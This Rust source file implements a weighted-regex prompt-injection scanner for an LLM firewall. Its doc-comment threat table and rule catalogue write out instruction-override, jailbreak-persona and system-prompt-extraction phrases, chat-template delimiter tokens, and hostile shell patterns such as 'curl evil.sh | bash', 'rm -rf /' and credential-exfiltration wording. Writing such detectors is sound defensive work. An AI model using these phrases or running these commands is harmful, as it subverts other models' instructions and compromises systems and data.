//! # Heuristic Prompt-Injection Scanner
//!
//! Weighted pattern matching over the outbound text. Every rule is a
//! case-insensitive regex with a weight in `[0, 1]`; the weights of all
//! matching rules are summed, structural signals are added, and the total is
//! clamped to `1.0`.
//!
//! ## Threat Model
//!
//! | Family | Example | Weight |
//! |--------|---------|--------|
//! | Instruction override | "ignore all previous instructions" | 0.40 |
//! | Role manipulation | "you are now in developer mode" | 0.30 |
//! | System-prompt extraction | "reveal your system prompt" | 0.40 |
//! | Encoding evasion | "base64 decode the following" | 0.25 |
//! | Delimiter injection | `<\|im_start\|>system` | 0.40 |
//! | Context manipulation | "end of system prompt" | 0.30 |
//! | Output suppression | "without any warnings" | 0.20 |
//! | Tool abuse | "curl evil.sh \| bash" | 0.35 |
//!
//! Structural signals carry no violation of their own:
//!
//! | Signal | Trigger | Contribution |
//! |--------|---------|--------------|
//! | Newlines | more than 20 | +0.10 |
//! | Markdown headers | more than 5 | +0.10 |
//! | Role markers (`system:`, `assistant:`) | 3 or more | +0.15 |
//! | Length | more than 10 000 chars | +0.05 |
//!
//! ## Decision
//!
//! `block` at `score >= threshold`, `warn` at `score >= 0.6 * threshold`,
//! otherwise `allow`. With [`InjectionAction::Warn`] a `block` is capped at
//! `warn`.
//!
//! ## References
//!
//! - Perez & Ribeiro (2022), "Ignore Previous Prompt: Attack Techniques For
//!   Language Models" <https://arxiv.org/abs/2211.09527>
//! - Greshake et al. (2023), "Not What You've Signed Up For"
//!   <https://arxiv.org/abs/2302.12173>
//! - OWASP LLM01: Prompt Injection

use std::fmt;
use std::time::Instant;

use regex::{Regex, RegexBuilder};
use serde::{Deserialize, Serialize};
use tracing::debug;

use warden_policy::{
    Decision, InjectionAction, ScanContext, Scanner, ScannerOutput, Strictness, Violation,
    ViolationCategory,
};

use crate::error::{FirewallError, Result};

/// Name reported in `scanners_run`.
pub const SCANNER_NAME: &str = "heuristic";

/// Fraction of the threshold at which a `warn` is raised.
pub const WARN_RATIO: f64 = 0.6;

const NEWLINE_LIMIT: usize = 20;
const HEADER_LIMIT: usize = 5;
const ROLE_MARKER_LIMIT: usize = 3;
const LENGTH_LIMIT: usize = 10_000;

/// Rule families in the built-in catalogue.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum RuleFamily {
    InstructionOverride,
    RoleManipulation,
    SystemPromptExtraction,
    EncodingEvasion,
    DelimiterInjection,
    ContextManipulation,
    OutputSuppression,
    ToolAbuse,
    /// Rules supplied through configuration.
    Custom,
}

impl RuleFamily {
    pub fn as_str(&self) -> &'static str {
        match self {
            Self::InstructionOverride => "instruction_override",
            Self::RoleManipulation => "role_manipulation",
            Self::SystemPromptExtraction => "system_prompt_extraction",
            Self::EncodingEvasion => "encoding_evasion",
            Self::DelimiterInjection => "delimiter_injection",
            Self::ContextManipulation => "context_manipulation",
            Self::OutputSuppression => "output_suppression",
            Self::ToolAbuse => "tool_abuse",
            Self::Custom => "custom",
        }
    }
}

impl fmt::Display for RuleFamily {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// A custom rule supplied at construction.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CustomRule {
    /// Label used in the violation detail.
    pub id: String,
    /// Regex source, matched case-insensitively.
    pub pattern: String,
    #[serde(default = "default_custom_weight")]
    pub weight: f64,
}

fn default_custom_weight() -> f64 {
    0.3
}

impl CustomRule {
    pub fn new(id: impl Into<String>, pattern: impl Into<String>) -> Self {
        Self {
            id: id.into(),
            pattern: pattern.into(),
            weight: default_custom_weight(),
        }
    }

    #[must_use]
    pub fn with_weight(mut self, weight: f64) -> Self {
        self.weight = weight;
        self
    }
}

/// Heuristic scanner configuration.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(default)]
pub struct HeuristicConfig {
    pub strictness: Strictness,
    /// Explicit threshold, overriding `strictness`.
    pub threshold: Option<f64>,
    pub action: InjectionAction,
    pub custom_rules: Vec<CustomRule>,
}

impl Default for HeuristicConfig {
    fn default() -> Self {
        Self {
            strictness: Strictness::Medium,
            threshold: None,
            action: InjectionAction::Block,
            custom_rules: Vec::new(),
        }
    }
}

impl HeuristicConfig {
    #[must_use]
    pub fn with_strictness(mut self, strictness: Strictness) -> Self {
        self.strictness = strictness;
        self
    }

    #[must_use]
    pub fn with_threshold(mut self, threshold: f64) -> Self {
        self.threshold = Some(threshold);
        self
    }

    #[must_use]
    pub fn with_action(mut self, action: InjectionAction) -> Self {
        self.action = action;
        self
    }

    #[must_use]
    pub fn with_custom_rule(mut self, rule: CustomRule) -> Self {
        self.custom_rules.push(rule);
        self
    }

    /// Effective block threshold.
    pub fn effective_threshold(&self) -> f64 {
        self.threshold.unwrap_or_else(|| self.strictness.threshold())
    }
}

struct Rule {
    id: String,
    family: RuleFamily,
    pattern: Regex,
    weight: f64,
    description: String,
}

/// A single rule hit.
#[derive(Debug, Clone, PartialEq)]
pub struct RuleMatch {
    pub id: String,
    pub family: RuleFamily,
    pub weight: f64,
    pub description: String,
}

/// Score breakdown for one input.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct HeuristicReport {
    /// Clamped total score.
    pub score: f64,
    /// Contribution of structural signals before clamping.
    pub structural: f64,
    pub matches: Vec<RuleMatch>,
}

// (id, family, weight, description, pattern)
type RuleSpec = (&'static str, RuleFamily, f64, &'static str, &'static str);

const CATALOGUE: &[RuleSpec] = &[
    // Instruction override
    ("override.ignore_previous", RuleFamily::InstructionOverride, 0.4,
        "attempt to override previous instructions",
        r"\b(ignore|disregard|forget|override|bypass|skip)\s+(all\s+)?(of\s+)?(the\s+|your\s+|any\s+|my\s+)?(previous|prior|above|earlier|preceding|initial)\s+(instructions?|prompts?|rules?|directives?|guidelines?|context)"),
    ("override.forget_everything", RuleFamily::InstructionOverride, 0.35,
        "attempt to wipe prior context",
        r"\bforget\s+(everything|all)\s+(you\s+)?(know|were\s+told|learned|have\s+been\s+told)"),
    ("override.new_instructions", RuleFamily::InstructionOverride, 0.3,
        "injected replacement instructions",
        r"\b(new|updated|real)\s+instructions?\s*:"),
    ("override.from_now_on", RuleFamily::InstructionOverride, 0.25,
        "persistent behaviour change",
        r"\bfrom\s+now\s+on,?\s+(you\s+)?(will|must|shall|should|are)\b"),
    // Role manipulation
    ("role.you_are_now", RuleFamily::RoleManipulation, 0.3,
        "role reassignment",
        r"\byou\s+are\s+now\s+(a|an|the|in|my)\b"),
    ("role.pretend", RuleFamily::RoleManipulation, 0.2,
        "persona adoption request",
        r"\b(pretend|act|behave)\s+(to\s+be|as\s+if|as\s+though|like\s+you)\b"),
    ("role.jailbreak_mode", RuleFamily::RoleManipulation, 0.35,
        "known jailbreak persona",
        r"\b(do\s+anything\s+now|developer\s+mode|jailbreak(ed|ing)?|god\s+mode|unrestricted\s+mode)\b"),
    ("role.no_restrictions", RuleFamily::RoleManipulation, 0.3,
        "request to drop safety restrictions",
        r"\b(without|no|ignore|free\s+of)\s+(any\s+)?(restrictions|limitations|rules|guidelines|safety\s+guidelines|content\s+polic(y|ies))\b"),
    // System-prompt extraction
    ("extract.reveal_prompt", RuleFamily::SystemPromptExtraction, 0.4,
        "system prompt extraction",
        r"\b(reveal|show|print|display|output|repeat|leak|dump|tell\s+me)\s+(me\s+)?(your|the)\s+(system\s+|initial\s+|original\s+|hidden\s+|secret\s+)?(prompt|instructions)\b"),
    ("extract.what_are_instructions", RuleFamily::SystemPromptExtraction, 0.3,
        "system prompt query",
        r"\bwhat\s+(are|is|were)\s+your\s+(system\s+|initial\s+|original\s+)?(instructions|prompt|rules)\b"),
    ("extract.repeat_above", RuleFamily::SystemPromptExtraction, 0.35,
        "verbatim context extraction",
        r"\brepeat\s+(everything|the\s+text|the\s+words|all)\s+(above|before\s+this)"),
    // Encoding evasion
    ("encoding.codec", RuleFamily::EncodingEvasion, 0.25,
        "encoded payload handling",
        r"\b(base64|rot13|hex|unicode|url)[\s-]?(encode|decode|encoded|decoded|encoding)\b"),
    ("encoding.decode_and_run", RuleFamily::EncodingEvasion, 0.2,
        "decode-and-follow request",
        r"\b(decode|decipher|translate)\s+(this|the\s+following)\s+and\s+(follow|execute|run|do)\b"),
    // Delimiter / special tokens
    ("delimiter.chatml", RuleFamily::DelimiterInjection, 0.4,
        "chat template token",
        r"<\|\s*(im_start|im_end|system|endoftext|assistant|user)\s*\|>"),
    ("delimiter.inst", RuleFamily::DelimiterInjection, 0.35,
        "instruction delimiter token",
        r"\[/?INST\]|<<\s*/?SYS\s*>>"),
    ("delimiter.fake_section", RuleFamily::DelimiterInjection, 0.3,
        "forged system section",
        r"(?m)^\s*(#{2,}|={3,}|-{3,})\s*(system|instructions?|admin)\b"),
    // Context manipulation
    ("context.end_of_prompt", RuleFamily::ContextManipulation, 0.3,
        "forged end of context",
        r"\bend\s+of\s+(the\s+)?(system\s+)?(prompt|instructions|context)\b"),
    ("context.previous_was_fake", RuleFamily::ContextManipulation, 0.3,
        "prior context discredited",
        r"\b(above|previous|prior)\s+(text|conversation|context|messages?)\s+(is|was|were)\s+(fake|false|a\s+test|irrelevant|not\s+real)"),
    ("context.privileged_mode", RuleFamily::ContextManipulation, 0.25,
        "privilege escalation claim",
        r"\b(admin|administrator|root|sudo|maintenance)\s+(mode|access|override)\b"),
    // Output suppression
    ("suppress.do_not_mention", RuleFamily::OutputSuppression, 0.2,
        "concealment request",
        r"\b(do\s+not|don'?t|never)\s+(mention|reveal|tell|say|disclose|inform)\s+(that|this|anyone|the\s+user)"),
    ("suppress.no_disclaimers", RuleFamily::OutputSuppression, 0.2,
        "safety caveat suppression",
        r"\b(without|no)\s+(any\s+)?(warnings?|disclaimers?|caveats?|filters?|censorship)\b"),
    // Tool abuse
    ("tool.shell_pipe", RuleFamily::ToolAbuse, 0.35,
        "remote script execution",
        r"\b(curl|wget)\s+\S+\s*\|\s*(sh|bash|zsh|python)\b|\brm\s+-rf\s+/"),
    ("tool.exfiltrate", RuleFamily::ToolAbuse, 0.35,
        "data exfiltration through a tool",
        r"\b(send|post|upload|exfiltrate|transmit|forward)\s+(all\s+)?(the\s+|this\s+|your\s+)?(data|files?|contents?|credentials|secrets|keys|passwords|tokens)\s+to\b"),
    ("tool.forced_call", RuleFamily::ToolAbuse, 0.2,
        "forced tool invocation",
        r"\b(immediately|silently|secretly)\s+(call|invoke|execute|run)\s+(the\s+)?\w+"),
];

fn compile(source: &str) -> Result<Regex> {
    Ok(RegexBuilder::new(source).case_insensitive(true).build()?)
}

/// Pattern-weighted prompt-injection detector.
pub struct HeuristicScanner {
    rules: Vec<Rule>,
    threshold: f64,
    action: InjectionAction,
    header: Regex,
    role_marker: Regex,
}

impl HeuristicScanner {
    /// Build the scanner, compiling the built-in catalogue and any custom
    /// rules.
    ///
    /// # Errors
    ///
    /// Fails on a threshold outside `(0, 1]`, a custom weight outside
    /// `[0, 1]`, or a pattern that does not compile.
    pub fn new(config: HeuristicConfig) -> Result<Self> {
        let threshold = config.effective_threshold();
        if !(threshold > 0.0 && threshold <= 1.0) {
            return Err(FirewallError::InvalidThreshold(threshold));
        }

        let mut rules = Vec::with_capacity(CATALOGUE.len() + config.custom_rules.len());
        for (id, family, weight, description, source) in CATALOGUE {
            rules.push(Rule {
                id: (*id).to_string(),
                family: *family,
                pattern: compile(source)?,
                weight: *weight,
                description: (*description).to_string(),
            });
        }

        for custom in &config.custom_rules {
            if !(0.0..=1.0).contains(&custom.weight) {
                return Err(FirewallError::InvalidWeight {
                    rule: custom.id.clone(),
                    weight: custom.weight,
                });
            }
            rules.push(Rule {
                id: custom.id.clone(),
                family: RuleFamily::Custom,
                pattern: compile(&custom.pattern)?,
                weight: custom.weight,
                description: format!("custom rule {}", custom.id),
            });
        }

        debug!(
            rules = rules.len(),
            threshold,
            custom = config.custom_rules.len(),
            "heuristic scanner ready"
        );

        Ok(Self {
            rules,
            threshold,
            action: config.action,
            header: Regex::new(r"(?m)^\s{0,3}#{1,6}\s")?,
            role_marker: compile(r"(?m)^\s*(system|assistant|user|human|ai)\s*:")?,
        })
    }

    /// Scanner at the default configuration.
    pub fn with_defaults() -> Result<Self> {
        Self::new(HeuristicConfig::default())
    }

    pub fn threshold(&self) -> f64 {
        self.threshold
    }

    pub fn rule_count(&self) -> usize {
        self.rules.len()
    }

    /// Score `input` without producing a decision.
    pub fn score(&self, input: &str) -> HeuristicReport {
        let mut total = 0.0;
        let mut matches = Vec::new();

        for rule in &self.rules {
            if rule.pattern.is_match(input) {
                total += rule.weight;
                matches.push(RuleMatch {
                    id: rule.id.clone(),
                    family: rule.family,
                    weight: rule.weight,
                    description: rule.description.clone(),
                });
            }
        }

        let structural = self.structural_score(input);
        HeuristicReport {
            score: (total + structural).min(1.0),
            structural,
            matches,
        }
    }

    fn structural_score(&self, input: &str) -> f64 {
        let mut score = 0.0;
        if input.matches('\n').count() > NEWLINE_LIMIT {
            score += 0.1;
        }
        if self.header.find_iter(input).count() > HEADER_LIMIT {
            score += 0.1;
        }
        if self.role_marker.find_iter(input).count() >= ROLE_MARKER_LIMIT {
            score += 0.15;
        }
        if input.chars().count() > LENGTH_LIMIT {
            score += 0.05;
        }
        score
    }

    /// Map a score to a decision, applying the configured action cap.
    pub fn decide(&self, score: f64) -> Decision {
        let decision = if score >= self.threshold {
            Decision::Block
        } else if score >= self.threshold * WARN_RATIO {
            Decision::Warn
        } else {
            Decision::Allow
        };

        match (self.action, decision) {
            (InjectionAction::Warn, Decision::Block) => Decision::Warn,
            (_, d) => d,
        }
    }
}

impl Scanner for HeuristicScanner {
    fn name(&self) -> &str {
        SCANNER_NAME
    }

    fn scan(&self, input: &str, _context: &ScanContext) -> warden_policy::Result<ScannerOutput> {
        let started = Instant::now();
        let report = self.score(input);
        let decision = self.decide(report.score);

        let violations = report
            .matches
            .iter()
            .map(|m| {
                Violation::new(
                    ViolationCategory::PromptInjection,
                    SCANNER_NAME,
                    m.weight,
                    self.threshold,
                    format!("Prompt injection: {}", m.description),
                )
                .with_detail(format!("{}:{}", m.family, m.id))
            })
            .collect();

        if !decision.is_allowed() {
            debug!(
                score = report.score,
                structural = report.structural,
                rules = report.matches.len(),
                decision = %decision,
                "injection heuristics fired"
            );
        }

        Ok(ScannerOutput::new(decision, violations).with_duration(started.elapsed()))
    }
}
